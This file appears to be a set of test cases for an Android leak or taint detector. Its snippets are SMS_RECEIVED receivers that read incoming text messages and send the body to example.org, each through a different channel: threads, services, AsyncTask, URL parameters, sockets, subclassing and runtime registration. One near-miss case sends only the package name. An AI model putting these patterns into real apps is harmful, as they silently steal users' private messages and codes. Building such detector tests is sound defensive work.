permissions("RECEIVE_SMS", "INTERNET")

@receiver(actions=["android.provider.Telephony.SMS_RECEIVED"])
class Inbox(BroadcastReceiver):
    def onReceive(self, context, intent):
        pdu = cast("byte[]", intent.getExtras().get("pdus"))
        message = SmsMessage.createFromPdu(pdu)
        Thread(Courier(message.getMessageBody())).start()

class Courier(Runnable):
    text: String
    def __init__(self, text: String):
        self.text = text
    def run(self):
        connection = URL("https://example.org/in").openConnection()
        connection.setDoOutput(True)
        connection.getOutputStream().write(self.text.getBytes())

# near miss: shows the text; the network gets only word that the app is alive
@receiver(actions=["android.provider.Telephony.SMS_RECEIVED"])
class Inbox(BroadcastReceiver):
    def onReceive(self, context, intent):
        pdu = cast("byte[]", intent.getExtras().get("pdus"))
        message = SmsMessage.createFromPdu(pdu)
        Toast.makeText(context, message.getMessageBody(), 1).show()
        Thread(Courier(context.getPackageName())).start()

# also: hands the text to a service in an Intent
@receiver(actions=["android.provider.Telephony.SMS_RECEIVED"])
class Inbox(BroadcastReceiver):
    def onReceive(self, context, intent):
        pdu = cast("byte[]", intent.getExtras().get("pdus"))
        message = SmsMessage.createFromPdu(pdu)
        order = Intent(context, Post)
        order.putExtra("text", message.getMessageBody())
        context.startService(order)

@service
class Post(Service):
    def onStartCommand(self, intent, flags, number):
        connection = URL("https://example.org/in").openConnection()
        connection.getOutputStream().write(intent.getStringExtra("text").getBytes())
        return 1

# also: through an AsyncTask, as JSON
@receiver(actions=["android.provider.Telephony.SMS_RECEIVED"])
class Inbox(BroadcastReceiver):
    def onReceive(self, context, intent):
        pdu = cast("byte[]", intent.getExtras().get("pdus"))
        message = SmsMessage.createFromPdu(pdu)
        Upload().execute(array(Object, message.getMessageBody()))

class Upload(AsyncTask):
    def doInBackground(self, given):
        body = JSONObject().put("text", given[0])
        connection = URL("https://example.org/in").openConnection()
        out = BufferedWriter(OutputStreamWriter(connection.getOutputStream()))
        out.write(body.toString())
        return None

# also: in the address, from a pool of threads, kept in a list meanwhile
@receiver(actions=["android.provider.Telephony.SMS_RECEIVED"])
class Inbox(BroadcastReceiver):
    def onReceive(self, context, intent):
        pdu = cast("byte[]", intent.getExtras().get("pdus"))
        message = SmsMessage.createFromPdu(pdu)
        waiting = ArrayList()
        waiting.add(message.getMessageBody())
        Executors.newSingleThreadExecutor().submit(Ask(waiting))

class Ask(Runnable):
    waiting: ArrayList
    def __init__(self, waiting: ArrayList):
        self.waiting = waiting
    def run(self):
        text = cast(String, self.waiting.get(0))
        address = "https://example.org/in?t=".concat(URLEncoder.encode(text, "UTF-8"))
        URL(address).openStream().close()

# also: from a base class of the receiver, through an interface
class Base(BroadcastReceiver):
    def onReceive(self, context, intent):
        pdu = cast("byte[]", intent.getExtras().get("pdus"))
        message = SmsMessage.createFromPdu(pdu)
        self.take(message.getMessageBody())
    def take(self, text: String):
        pass

@receiver(actions=["android.provider.Telephony.SMS_RECEIVED"])
class Inbox(Base):
    def take(self, text: String):
        Socket("example.org", 4000).getOutputStream().write(text.getBytes())

# also: from a receiver that only the code names
@launcher
class Main(Activity):
    def onCreate(self, state):
        super().onCreate(state)
        self.registerReceiver(Inbox(), IntentFilter("android.provider.Telephony.SMS_RECEIVED"))

class Inbox(BroadcastReceiver):
    def onReceive(self, context, intent):
        pdu = cast("byte[]", intent.getExtras().get("pdus"))
        message = SmsMessage.createFromPdu(pdu)
        Thread(Courier(message.getMessageBody())).start()
